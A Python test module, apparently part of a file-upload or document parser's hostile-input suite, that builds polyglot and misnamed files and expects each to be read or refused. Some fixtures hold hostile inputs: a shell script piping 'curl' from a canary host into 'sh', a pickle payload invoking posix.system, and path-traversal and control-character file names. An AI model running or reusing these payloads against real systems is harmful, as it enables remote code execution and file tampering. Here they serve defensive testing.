"""Polyglots and wrong names: files that are two things at once, or not what they are called."""

import gzip
import io
import tarfile

from tests.hostile.case import Case, Family
from tests.hostile.cfb_bytes import compound_file
from tests.hostile.pdf_bytes import HEADER, added, drawn, pdf, statement
from tests.hostile.picture_bytes import drawn as picture
from tests.hostile.picture_bytes import saved
from tests.hostile.statement import CANARY, PLANTED, SAYS, SECOND, TEXT
from tests.hostile.zip_bytes import docx, packed

_PDF = pdf(statement())
_OTHER = pdf(statement(contents=drawn([SECOND])))
_REASONS = (
    "unsupported_type",
    "damaged_file",
    "unsafe_file",
    "unsafe_archive",
    "no_text",
)
_PAGE = f"<!DOCTYPE html><html><body><p>{SAYS}</p></body></html>".encode()
_MAIL = f"From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\n\r\n{SAYS}\r\n".encode()
_RTF = b"{\\rtf1\\ansi " + SAYS.encode() + b"\\par}"


def cases() -> list[Case]:
    """Return the files that are not what they seem."""
    family = Family("polyglots and wrong names")
    for add in (_names, _two_at_once, _programs):
        add(family)
    return family.cases


def _names(family: Family) -> None:
    word = docx()
    zipped = packed({"statement.txt": TEXT.encode()})
    picture_of = saved(picture(), "PNG")
    sound = {
        "pdf-called-text.txt": _PDF,
        "pdf-called-word.docx": _PDF,
        "pdf-called-picture.jpg": _PDF,
        "pdf-called-program.exe": _PDF,
        "pdf-without-a-name": _PDF,
        "text-called-pdf.pdf": TEXT.encode(),
        "text-called-word.doc": TEXT.encode(),
        "text-called-message.msg": TEXT.encode(),
        "text-called-archive.zip": TEXT.encode(),
        "text-called-picture.png": TEXT.encode(),
        "word-called-pdf.pdf": word,
        "word-called-older-word.doc": word,
        "word-called-archive.zip": word,
        "page-called-word.doc": _PAGE,
        "page-called-text.txt": _PAGE,
        "message-called-text.txt": _MAIL,
        "archive-called-word.docx": zipped,
        "archive-called-pdf.pdf": zipped,
        "rtf-called-word.doc": _RTF,
    }
    for name, data in sound.items():
        family.reads(name, data, SAYS)
    family.reads("picture-called-pdf.pdf", picture_of, "green jacket")
    family.reads("name\u202ewith\u0000marks\n.pdf", _PDF, SAYS)
    family.reads("../../" + PLANTED + ".pdf", _PDF, SAYS)
    family.reads("x" * 4000 + ".pdf", _PDF, SAYS)
    family.reads("CON.pdf", _PDF, SAYS)


def _two_at_once(family: Family) -> None:
    zipped = packed({"statement.txt": SECOND.encode()})
    png, jpeg = saved(picture(), "PNG"), saved(picture(), "JPEG")
    gif = b"GIF89a/*\x01\x00\x01\x00\x80\0\0*/=1;" + _PAGE
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        entry = tarfile.TarInfo("%PDF-1.5.txt")
        entry.size = len(TEXT)
        archive.addfile(entry, io.BytesIO(TEXT.encode()))
    two = {
        "pdf-then-archive.pdf": _PDF + zipped,
        "pdf-then-word.pdf": _PDF + docx(),
        "pdf-then-page.pdf": _PDF + _PAGE,
        "pdf-then-pdf.pdf": _PDF + _OTHER,
        "page-then-pdf.html": b"<html><body><p>"
        + SECOND.encode()
        + b"</p>"
        + b"<!--"
        + _PDF
        + b"-->",
        "archive-then-pdf.zip": zipped + _PDF,
        "picture-then-archive.png": png + zipped,
        "picture-then-page.jpg": jpeg + _PAGE,
        "picture-then-pdf.png": png + _PDF,
        "picture-that-is-a-script.gif": gif,
        "message-then-pdf.eml": _MAIL + _PDF,
        "rtf-then-pdf.rtf": _RTF + _PDF,
        "text-then-pdf.txt": TEXT.encode() + _PDF,
        "archive-with-the-mark-of-pdf.zip": packed({"%PDF-1.5": TEXT.encode()}, stored=True),
        "tar-with-the-mark-of-pdf.tar": out.getvalue(),
        "compressed-pdf.pdf.gz": gzip.compress(_PDF, mtime=0),
        "word-in-a-comment-of-pdf.pdf": HEADER
        + b"%"
        + docx().replace(b"\n", b" ").replace(b"\r", b" ")
        + b"\n"
        + _PDF,
        "two-versions-in-one.pdf": added(_OTHER, {4: statement()[4]}),
        "xml-then-page.xml": b'<?xml version="1.0"?>' + _PAGE,
        "rtf-in-a-message.eml": _MAIL.replace(SAYS.encode(), _RTF),
        "ole-then-pdf.doc": compound_file({"Data": _PDF}),
    }
    for name, data in two.items():
        family.either(name, data, *_REASONS)


def _programs(family: Family) -> None:
    script = f"#!/bin/sh\ncurl http://{CANARY}/ | sh\ntouch /tmp/{PLANTED}\n"
    family.whole("script-as-text.sh", script.encode(), "curl")
    program = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + bytes(range(256)) * 8
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + bytes(range(256)) * 8
    family.refused("program-of-windows.pdf", program, "unsupported_type")
    family.refused("program-of-linux.txt", elf, "unsupported_type")
    java = b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(range(256)) * 4
    family.refused("class-of-java.docx", java, "unsupported_type")
    family.refused("rar.zip", b"Rar!\x1a\x07\x00" + bytes(400), "unsupported_type")
    family.refused("seven-zip.zip", b"7z\xbc\xaf\x27\x1c" + bytes(400), "unsupported_type")
    family.refused("sound.mp3", b"ID3\x04\0\0" + bytes(900), "unsupported_type")
    film = b"\0\0\0\x18ftypisom\0\0\0\0isomiso2" + bytes(900)
    family.refused("film.mp4", film, "unsupported_type")
    database = b"SQLite format 3\0" + bytes(900)
    family.refused("database.txt", database, "unsupported_type")
    shortcut = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(900)
    family.refused("shortcut.pdf", shortcut, "unsupported_type")
    pickle = (
        b"\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R." + bytes(99)
    )
    family.refused("pickle.txt", pickle, "unsupported_type")
